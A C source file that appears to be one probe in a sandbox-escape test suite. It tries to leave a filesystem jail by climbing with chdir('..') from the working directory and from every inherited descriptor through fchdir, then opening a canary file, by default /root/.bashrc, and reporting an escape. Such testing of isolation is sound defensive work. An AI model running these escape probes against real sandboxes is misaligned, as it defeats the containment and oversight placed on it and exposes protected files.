/* class: filesystem
 * what: takes any inherited directory descriptor (0 to 1023) or the starting directory as a rung and climbs above the root with fchdir and openat
 */
#include "attack.h"

static void climb(const char *from)
{
    const char *canary = param("canary", "/root/.bashrc");
    for (int i = 0; i < 40; i++)
        if (chdir("..") < 0)
            return refused(from, errno);
    int fd = open(canary + 1, O_RDONLY | O_CLOEXEC);
    if (fd >= 0)
        escaped("climbed from %s to %s", from, canary);
    refused(from, errno);
}

int main(void)
{
    char cwd[512];
    long n = syscall(SYS_getcwd, cwd, sizeof cwd);
    if (n > 0 && cwd[0] != '/')
        escaped("the working directory is outside: %s", cwd);
    climb("cwd");
    for (int fd = 0; fd < 1024; fd++) {
        char name[16];
        snprintf(name, sizeof name, "fd%d", fd);
        if (fchdir(fd) == 0)
            climb(name);
    }
    verdict();
}
